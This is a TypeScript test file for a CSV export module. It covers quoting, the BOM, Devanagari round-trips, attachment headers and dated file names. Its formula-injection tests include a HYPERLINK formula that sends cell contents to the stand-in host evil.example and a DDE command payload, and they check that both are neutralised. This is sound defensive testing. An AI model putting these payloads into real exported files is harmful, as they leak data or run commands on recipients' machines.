import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  UTF8_BOM,
  attachmentDisposition,
  csvCell,
  csvFileName,
  neutraliseFormula,
  toCsv,
} from './csv-export.ts';

describe('CSV export', () => {
  it('starts with a byte-order mark and ends every row with CRLF', () => {
    const csv = toCsv([
      ['a', 'b'],
      ['c', 'd'],
    ]);
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    expect(csv.slice(1)).toBe('a,b\r\nc,d\r\n');
    expect(toCsv([['a']], { bom: false })).toBe('a\r\n');
  });

  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
    expect(csvCell('Kanpur, Nagar')).toBe('"Kanpur, Nagar"');
    expect(csvCell('say "namaste"')).toBe('"say ""namaste"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\r\nlf')).toBe('"cr\r\nlf"');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('neutralises cells that a spreadsheet would run as formulas', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"',
    );
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe('"\'\r=1+1"');
    expect(neutraliseFormula('a=b')).toBe('a=b');
    expect(neutraliseFormula('')).toBe('');
  });

  it('leaves our own numbers alone, negative ones too', () => {
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(0)).toBe('0');
  });

  it('keeps Devanagari intact and reads back as the same cells', () => {
    const rows = [
      ['क्षेत्र / Zone', 'स्वीकृत'],
      ['लखनऊ', 5],
      ['=cmd|"/C calc"!A0', 'गोपनीय, "confidential"'],
    ];
    const csv = toCsv(rows);
    const back: string[][] = parse(csv, { bom: true, relax_column_count: true });
    expect(back).toEqual([
      ['क्षेत्र / Zone', 'स्वीकृत'],
      ['लखनऊ', '5'],
      ['\'=cmd|"/C calc"!A0', 'गोपनीय, "confidential"'],
    ]);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('makes a safe attachment header', () => {
    expect(attachmentDisposition('report zone "x".csv')).toBe('attachment; filename="report_zone__x_.csv"');
    expect(attachmentDisposition('')).toBe('attachment; filename="export.csv"');
  });

  it('stamps dated export file names in India time, not UTC', () => {
    // 20:00 UTC on 30 November is 01:30 on 1 December in India.
    expect(csvFileName('dwaar-rollout-zone', Date.UTC(2026, 10, 30, 20, 0))).toBe(
      'dwaar-rollout-zone-2026-12-01_0130.csv',
    );
    expect(csvFileName('x', Date.UTC(2026, 11, 31, 18, 29))).toBe('x-2026-12-31_2359.csv');
    expect(attachmentDisposition(csvFileName('dwaar-rollout-wing', 0))).toBe(
      'attachment; filename="dwaar-rollout-wing-1970-01-01_0530.csv"',
    );
  });
});
